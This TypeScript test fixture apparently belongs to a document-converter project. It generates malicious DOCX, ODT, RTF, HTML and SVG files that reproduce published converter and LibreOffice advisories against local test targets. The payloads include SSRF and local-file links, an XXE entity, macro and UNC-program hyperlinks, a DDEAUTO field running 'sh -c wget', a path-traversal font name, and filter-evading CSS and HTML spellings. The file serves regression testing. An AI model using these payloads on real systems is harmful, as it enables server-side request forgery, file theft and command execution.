/**
 * Documents that reproduce published advisories of document converters and LibreOffice (SSRF, local file
 * disclosure, script execution), generated for the sockets and secrets of one run. README.md in this folder maps
 * advisories to files and tests.
 */
import type { FormatId } from '@filesmith/contract/formats'
import { image as imageParagraph, paragraph, type Relation, writeDocx } from '../support/write-docx.ts'
import { odtPackage } from '../support/write-odt.ts'
import type { Targets } from './hostile-file.ts'

export interface AdvisoryDocument {
  readonly advisory: string
  readonly what: string
  readonly format: FormatId
  readonly content: Buffer
}

export const visibleWords = 'Visible words'
const words = paragraph(visibleWords)
const expand = 'vnd.sun.star.expand:'

export function advisoryDocuments(targets: Targets): AdvisoryDocument[] {
  return [
    ...linkedDocx(targets),
    ...linkedOdt(targets),
    ...expandedUrls(targets),
    ...scriptedLinks(targets),
    ...embeddedFonts(),
    ...externalRtf(targets),
    ...externalHtml(targets),
    ...externalSvg(targets),
  ]
}

function advisoryDocument(
  advisory: string,
  what: string,
  format: FormatId,
  content: Buffer | string,
): AdvisoryDocument {
  return { advisory, what, format, content: Buffer.from(content) }
}

const external = (id: string, type: string, target: string): Relation => ({
  id,
  type,
  target,
  isExternal: true,
})
const field = (...runs: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>${runs.join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`

function linkedDocx({ http, image, text }: Targets): AdvisoryDocument[] {
  const body = words + imageParagraph('a', true) + imageParagraph('b', true)
  return [
    advisoryDocument(
      'GHSA-2mrg-35hw-x3x9 (CVE-2026-55229)',
      'docx: a:blip r:link to a server and to a file',
      'docx',
      writeDocx({
        body,
        relations: [external('a', 'image', `${http}/blip`), external('b', 'image', `file://${image}`)],
      }),
    ),
    advisoryDocument(
      'GHSA-2mrg-35hw-x3x9 (CVE-2026-55229)',
      'docx: a:blip r:embed of an external relationship',
      'docx',
      writeDocx({
        body: words + imageParagraph('a') + imageParagraph('b'),
        relations: [external('a', 'image', `${http}/embed`), external('b', 'image', `file://${image}`)],
      }),
    ),
    advisoryDocument(
      'GHSA-rm4c-xj6x-49mw (CVE-2026-42591)',
      'docx: every kind of external relationship',
      'docx',
      writeDocx({
        body: `${words}${imageParagraph('image', true)}<w:altChunk r:id="aFChunk"/><w:subDoc r:id="subDocument"/><w:p><w:r><w:object><v:shape id="s" style="width:9pt;height:9pt"><v:imagedata r:href="image" o:href="${http}/vml"/></v:shape><o:OLEObject Type="Link" ProgID="Word.Document" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="oleObject" UpdateMode="Always"/></w:object></w:r></w:p>`,
        relations: ['image', 'aFChunk', 'subDocument', 'oleObject', 'frame', 'font', 'control'].map(type =>
          external(type, type, `${http}/${type}`),
        ),
        parts: {
          settings: '<w:attachedTemplate r:id="t"/><w:mailMerge><w:dataSource r:id="m"/></w:mailMerge>',
        },
        settingsRelations: [
          external('t', 'attachedTemplate', `${http}/template`),
          external('m', 'mailMergeSource', `file://${text}`),
        ],
      }),
    ),
    advisoryDocument(
      'GHSA-5q7p-7jgv-ww56 (CVE-2026-40280)',
      'docx: schemes in mixed case',
      'docx',
      writeDocx({
        body,
        relations: [
          external('a', 'image', `${http.replace('http', 'HTTP')}/case`),
          external('b', 'image', `FiLe://${image}`),
        ],
      }),
    ),
    advisoryDocument(
      'Gotenberg 8.34.0, content linked from documents',
      'docx: fields split into runs and hidden in alternatives',
      'docx',
      writeDocx({
        body: [
          words,
          field(run('INCLUDE'), run('PIC'), run(`TURE "${image}" \\d`)),
          field(run(' '.repeat(700)), run(`INCLUDEPICTURE "${http}/padded" \\d`)),
          field(`<w:r><w:t>INCLUDEPICTURE "file://${image}" \\d</w:t></w:r>`),
          field(
            `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="zz" xmlns:zz="urn:zz">${run(' PAGE ')}</mc:Choice><mc:Fallback>${run(`INCLUDEPICTURE "${image}" \\d`)}</mc:Fallback></mc:AlternateContent>`,
          ),
          `<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;${text}&quot;"><w:r><w:t>result</w:t></w:r></w:fldSimple></w:p>`,
          field(run(`DDEAUTO sh "-c 'wget ${http}/dde'"`)),
        ].join(''),
      }),
    ),
  ]
}

function linkedOdt({ http, image, text }: Targets): AdvisoryDocument[] {
  const frame = (inner: string) =>
    `<text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char">${inner}</draw:frame></text:p>`
  const linked = (address: string) => frame(`<draw:image xlink:href="${address}" xlink:type="simple"/>`)
  const body = [
    linked(`${http}/image`),
    linked(`file://${image}`),
    linked(`../../../../../..${image}`),
    linked(image),
    frame(`<draw:object xlink:href="${http}/object"/>`),
    frame(`<draw:object-ole xlink:href="file://${text}"/>`),
    frame(`<draw:floating-frame xlink:href="file://${text}"/>`),
    frame(`<draw:plugin xlink:href="${http}/plugin" draw:mime-type="text/html"/>`),
    `<text:section text:name="a"><text:section-source xlink:href="file://${text}" text:filter-name="Text"/><text:p>old</text:p></text:section>`,
    `<text:section text:name="b"><office:dde-source office:dde-application="soffice" office:dde-topic="${text}" office:dde-item="a" office:automatic-update="true"/><text:p>old</text:p></text:section>`,
  ].join('')
  const flat = `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>${visibleWords}</text:p>${body}</office:text></office:body></office:document>`
  return [
    advisoryDocument(
      'GHSA-76hv-h7g2-xfv3 (CVE-2025-55151)',
      'odt: everything a text document links',
      'odt',
      odtPackage(body),
    ),
    advisoryDocument('Stirling-PDF issue 7628', 'flat ODF declared as HTML', 'html', flat),
    advisoryDocument(
      'GHSA-76hv-h7g2-xfv3 (CVE-2025-55151)',
      'odt: external template, auto-reload and index file',
      'odt',
      odtPackage(
        `<text:alphabetical-index text:name="i"><text:alphabetical-index-source/></text:alphabetical-index><text:alphabetical-index-auto-mark-file xlink:href="file://${text}"/>`,
        {
          'meta.xml': `<?xml version="1.0"?><office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:meta><meta:template xlink:href="${http}/template.ott"/><meta:auto-reload xlink:href="${http}/reload" meta:delay="PT0S"/></office:meta></office:document-meta>`,
        },
      ),
    ),
    advisoryDocument(
      'CVE-2026-63277',
      'odt: an embedded spreadsheet that loads external data',
      'odt',
      odtPackage(frame('<draw:object xlink:href="./Object 1" xlink:type="simple"/>'), {
        'Object 1/content.xml': `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:body><office:spreadsheet><calcext:data-mappings><calcext:data-mapping xlink:href="${http}/data" calcext:provider="sql" calcext:id="jdbc:${http}"/></calcext:data-mappings><table:table table:name="a"><table:table-source xlink:href="file://${text}"/><table:table-row><table:table-cell/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`,
      }),
    ),
  ]
}

/** URLs that LibreOffice expands from environment variables and ini files before it fetches them. */
function expandedUrls({ http, image }: Targets): AdvisoryDocument[] {
  const address = `${expand}${http}/$HOME/$FILESMITH_CANARY`
  const inPackage = `vnd.sun.star.pkg://${encodeURIComponent(`${expand}file://${image}`)}/`
  const frames = [
    address,
    inPackage,
    `VND.SUN.STAR.PKG://${expand}${http}/x`,
    `vnd.sun.star.zip://${expand}${http}/z`,
  ]
    .map(
      target =>
        `<text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char"><draw:image xlink:href="${target}" xlink:type="simple"/></draw:frame></text:p>`,
    )
    .join('')
  return [
    advisoryDocument('CVE-2024-12426', 'odt: an image with an expanded URL', 'odt', odtPackage(frames)),
    advisoryDocument(
      'CVE-2024-12426',
      'docx: an image with an expanded URL',
      'docx',
      writeDocx({ body: words + imageParagraph('a', true), relations: [external('a', 'image', address)] }),
    ),
    advisoryDocument(
      'CVE-2026-63278',
      'html: a package with an expanded URL',
      'html',
      `<p>${visibleWords}</p><img src="${inPackage}"><img src="${address}">`,
    ),
    advisoryDocument(
      'CVE-2026-63270',
      'odt: a form that fetches its data',
      'odt',
      odtPackage(
        '',
        {},
        `<office:forms form:automatic-focus="false"><xforms:model xmlns:xforms="http://www.w3.org/2002/xforms" id="m"><xforms:instance src="${address}"/><xforms:submission action="${http}/submit" method="get" id="s"/></xforms:model><form:form xlink:href="${http}/form" form:datasource="file://${image}"><form:image form:image-data="${http}/form-image" form:control-implementation="ooo:com.sun.star.form.component.ImageButton"/></form:form></office:forms>`,
      ),
    ),
  ]
}

/** Links that execute something, or open a local file on the machine of the user who opens the result. */
function scriptedLinks({ http, text }: Targets): AdvisoryDocument[] {
  const addresses = [
    `vnd.libreoffice.command:macro:///Standard.Module1.Main(${http})`,
    'vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document',
    'macro:///Standard.Module1.Main',
    `file://${text}`,
    '\\\\127.0.0.1\\share\\run.exe',
    'service:com.sun.star.task.Job',
  ]
  const escaped = addresses.map(address => address.replaceAll('&', '&amp;'))
  return [
    advisoryDocument(
      'CVE-2025-1080',
      'docx: links that are macros and programs',
      'docx',
      writeDocx({
        body:
          words +
          addresses
            .map(
              (_, index) =>
                `<w:p><w:hyperlink r:id="l${index}"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>`,
            )
            .join(''),
        relations: escaped.map((address, index) => external(`l${index}`, 'hyperlink', address)),
      }),
    ),
    advisoryDocument(
      'CVE-2025-1080',
      'odt: links, buttons and events that are macros',
      'odt',
      odtPackage(
        escaped
          .map(
            address =>
              `<text:p><text:a xlink:href="${address}" xlink:type="simple">link<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" xlink:href="${address}"/></office:event-listeners></text:a></text:p>`,
          )
          .concat('<text:p><text:execute-macro text:name="Main">run</text:execute-macro></text:p>')
          .join(''),
      ),
    ),
    advisoryDocument(
      'CVE-2025-0514',
      'rtf: links that are programs',
      'rtf',
      `{\\rtf1\\ansi ${visibleWords}\\par ${addresses.map(address => `{\\field{\\*\\fldinst HYPERLINK "${address.replaceAll('\\', '\\\\\\\\')}"}{\\fldrslt link}}`).join('')}}`,
    ),
    advisoryDocument(
      'CVE-2025-0514',
      'html: links that are programs',
      'html',
      `<p>${visibleWords}</p>${escaped.map(address => `<a href="${address}">link</a>`).join('')}`,
    ),
  ]
}

function embeddedFonts(): AdvisoryDocument[] {
  const font = Buffer.concat([Buffer.from('OTTO'), Buffer.alloc(200)])
  const declared = `<office:font-face-decls><style:font-face style:name="../../../../tmp/escaped-font" svg:font-family="Escaped"><svg:font-face-src><svg:font-face-uri xlink:href="Fonts/a.otf" loext:font-style="normal"><svg:font-face-format svg:string="opentype"/></svg:font-face-uri></svg:font-face-src></style:font-face></office:font-face-decls>`
  return [
    advisoryDocument(
      'CVE-2024-12425',
      'odt: an embedded font whose name is a path traversal',
      'odt',
      odtPackage('', { 'Fonts/a.otf': font }, '', declared),
    ),
    advisoryDocument(
      'CVE-2026-63275, CVE-2026-63276',
      'docx: an embedded font',
      'docx',
      writeDocx({
        body: words,
        relations: [{ id: 'font', type: 'font', target: 'media/a.odttf' }],
        media: { 'media/a.odttf': font },
      }),
    ),
  ]
}

function externalRtf({ http, image, text }: Targets): AdvisoryDocument[] {
  const rtf = (...instructions: readonly string[]) =>
    `{\\rtf1\\ansi ${visibleWords}\\par ${instructions.map(instruction => `{\\field\\flddirty{\\*\\fldinst ${instruction}}{\\fldrslt result}}\\par `).join('')}}`
  const rest = `"${image}" \\\\d`
  return [
    advisoryDocument(
      'Gotenberg 8.34.0, content linked from documents',
      'rtf: INCLUDEPICTURE padded, split, escaped and nested',
      'rtf',
      rtf(
        `${' '.repeat(700)}INCLUDEPICTURE ${rest}`,
        `${'{}'.repeat(400)}INCLUDEPICTURE "${http}/braces" \\\\d`,
        `\\'49NCLUDEPICTURE ${rest}`,
        `\\u73 ?NCLUDEPICTURE ${rest}`,
        `INC{\\b LUDE}{PICTURE} ${rest}`,
        `IN\r\nCLUDEPICTURE ${rest}`,
        `{\\field{\\*\\fldinst QUOTE}{\\fldrslt INCLUDEPICTURE}} ${rest}`,
        `includepicture ${rest}`,
        `INCLUDETEXT "${text}"`,
        `IMPORT ${rest}`,
        `LINK Word.Document.8 "${text}" \\\\a`,
      ),
    ),
    advisoryDocument(
      'Gotenberg 8.34.0, content linked from documents',
      'rtf: linked shapes, objects, templates and files',
      'rtf',
      `{\\rtf1\\ansi{\\*\\template ${http}/t.dot}{\\*\\nextfile file://${text}}{\\*\\filetbl{\\file\\fid1 ${text}}}{\\info{\\*\\hlinkbase ${http}/}} ${visibleWords}\\par {\\shp{\\*\\shpinst\\shpwidth9{\\sp{\\sn pib{}Name}{\\sv ${http}/shape}}{\\sp{\\sn pibFlags}{\\sv 10}}{\\sp{\\sn pib}{\\sv {\\pict\\pngblip ${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40"><image href="file://${image}" width="60" height="40"/></svg>`).toString('hex')}}}}}}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000001000000}{\\result result}}{\\subdocument1 }\\par}`,
    ),
  ]
}

/**
 * Everything that browsers and LibreOffice load from a page, in spellings that a parser understands and a text
 * search misses.
 */
function externalHtml({ http, image, text }: Targets): AdvisoryDocument[] {
  const css = [
    `@\\69mport "${http}/1.css";`,
    `@import url(${http}/2.css);`,
    `@im/**/port "${http}/3.css";`,
    `@font-face { font-family: x; src: url(${http}/4.woff) } * { font-family: x }`,
    `p { background: u\\72l(${http}/5.png) }`,
    `p { background: URL("${http}/6.png") }`,
    `p { background-image: image-set("${http}/7.png" 1x) }`,
    `p { background-image: -webkit-image-set(url(${http}/8.png) 1x) }`,
    `p { background-image: cross-fade(url(${http}/9.png), url(${http}/10.png)) }`,
    `p { list-style-image: url(${http}/11.png); cursor: url(${http}/12.cur), auto; content: url(${http}/13.png) }`,
    `:root { --a: url(${http}/14.png) } p::before { content: "x"; background: var(--a) }`,
    `@media all { p { border-image: url(${http}/15.png) 3 } }`,
    `p { & b { background: url(${http}/16.png) } }`,
    `@supports (color: red) { p { mask: url(${http}/17.svg#a) } }`,
    `p { filter: url(${http}/18.svg#f); clip-path: url(${http}/19.svg#c); shape-outside: url(${http}/20.png) }`,
    `@property --b { syntax: "<url>"; inherits: false; initial-value: url(${http}/21.png) }`,
    `p { background: src("${http}/22.png") } </style ><img src="${http}/23.png">`,
  ].join('\n')
  const svg = [
    `<image href="${http}/30.png" width="9" height="9"/><image xlink:href="${http}/31.png" width="9" height="9"/>`,
    `<use href="${http}/32.svg#a"/><use xlink:href="${http}/33.svg#a"/>`,
    `<rect width="9" height="9" fill="url(${http}/34.svg#p)" style="fill:url(${http}/35.svg#p)"/>`,
    `<filter id="f"><feImage href="${http}/36.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    `<image width="9" height="9"><animate attributeName="href" to="${http}/37.png" begin="0s"/><set attributeName="href" to="${http}/38.png"/></image>`,
    `<style>@import "${http}/39.css"; rect { fill: url(${http}/40.svg#p) }</style><foreignObject><img src="${http}/41.png"></foreignObject>`,
    `<script href="${http}/42.js"></script><style>&lt;/style>&lt;img src="${http}/43.png">`,
  ].join('')
  const elements = [
    `<img src="${http}/50.png"><img srcset="${http}/51.png 2x"><picture><source srcset="${http}/52.png"><img src="${http}/53.png"></picture>`,
    `<video src="${http}/54" poster="${http}/55.png"></video><audio src="${http}/56" autoplay></audio><track src="${http}/57">`,
    `<iframe src="${http}/58"></iframe><iframe srcdoc="&lt;img src=${http}/59.png&gt;"></iframe><object data="${http}/60"></object><applet code="${http}/61"></applet><portal src="${http}/62"></portal>`,
    `<table background="${http}/63.png"><tr><td background="${http}/64.png">cell</td></tr></table><input type="image" src="${http}/65.png"><link rel="stylesheet" href="${http}/66.css"><link rel="prefetch" href="${http}/67">`,
    `<meta http-equiv="refresh" content="0;url=${http}/68"><base href="${http}/"><img src="69.png"><form action="${http}/70"><button formaction="${http}/71">b</button></form><a ping="${http}/72" href="#">p</a>`,
    `<noscript><img src="${http}/73.png"></noscript><template><img src="${http}/74.png"></template><!--[if gte mso 9]><img src="${http}/75.png"><![endif]--><xmp><img src="${http}/76.png"></xmp>`,
    `<textarea><img src="${http}/77.png"></textarea></textarea><math href="${http}/78"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${http}/79.png&gt;"></math>`,
    `<p style="background:u\\72l(${http}/80.png)">a</p><p style="background-image:image-set('${http}/81.png' 1x)">b</p><body background="${http}/82.png">`,
    `<img src="file://${image}"><img src="${image}"><iframe src="file://${text}"></iframe><img src="data:image/png;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40"><image href="file://${image}" width="60" height="40"/></svg>`).toString('base64')}">`,
  ].join('')
  const page = (head: string, body: string) =>
    `<!DOCTYPE html><html><head><meta charset="utf-8">${head}</head><body><p>${visibleWords}</p>${body}<p>last words</p></body></html>`
  return [
    advisoryDocument(
      'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
      'html: style sheets with escapes, comments and new functions',
      'html',
      page(`<style>${css}</style>`, '<p>a<b>b</b></p>'),
    ),
    advisoryDocument(
      'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
      'html: svg elements that load',
      'html',
      page('', `<svg width="99" height="99" xmlns:xlink="http://www.w3.org/1999/xlink">${svg}</svg>`),
    ),
    advisoryDocument(
      'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
      'html: elements that load',
      'html',
      page('', elements),
    ),
    advisoryDocument(
      'GHSA-ff33-grr6-rmvp (CVE-2025-55161)',
      'txt: Markdown with an external image',
      'txt',
      `${visibleWords}\n\n![a](${http}/md.png)\n\n<img src="${http}/raw.png">\n`,
    ),
    advisoryDocument(
      'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
      'html: a page in UTF-7',
      'html',
      `<meta charset="utf-7"><p>${visibleWords}</p>+ADw-img src=+ACI-${http}/7.png+ACI-+AD4-`,
    ),
    advisoryDocument(
      'GHSA-xw8v-9mfm-g2pm (CVE-2025-55150)',
      'html: a page in UTF-16',
      'html',
      Buffer.from(`\ufeff<p>${visibleWords}</p><img src="${http}/16.png">`, 'utf16le'),
    ),
  ]
}

/** URLs without a scheme in SVG, which a search for schemes misses. */
function externalSvg({ http, image }: Targets): AdvisoryDocument[] {
  const svg = Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${image}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"><image xlink:href="${image}" width="100" height="100"/><image href="${http}/svg.png" x="100" width="100" height="100"/></svg>`,
  )
  return [
    advisoryDocument(
      'GHSA-v97v-3m37-j634',
      'docx: an svg that references a file, named as a PNG',
      'docx',
      writeDocx({
        body: words + imageParagraph('a'),
        relations: [{ id: 'a', type: 'image', target: 'media/a.png' }],
        media: { 'media/a.png': svg },
      }),
    ),
    advisoryDocument(
      'GHSA-v97v-3m37-j634',
      'odt: an svg that references a file',
      'odt',
      odtPackage(
        `<text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char"><draw:image xlink:href="Pictures/a.svg"/></draw:frame></text:p><text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char"><draw:image><office:binary-data>${svg.toString('base64')}</office:binary-data></draw:image></draw:frame></text:p>`,
        { 'Pictures/a.svg': svg },
      ),
    ),
    advisoryDocument(
      'GHSA-v97v-3m37-j634',
      'html: an svg that references a file',
      'html',
      `<p>${visibleWords}</p><img src="data:image/svg+xml;base64,${svg.toString('base64')}">`,
    ),
  ]
}
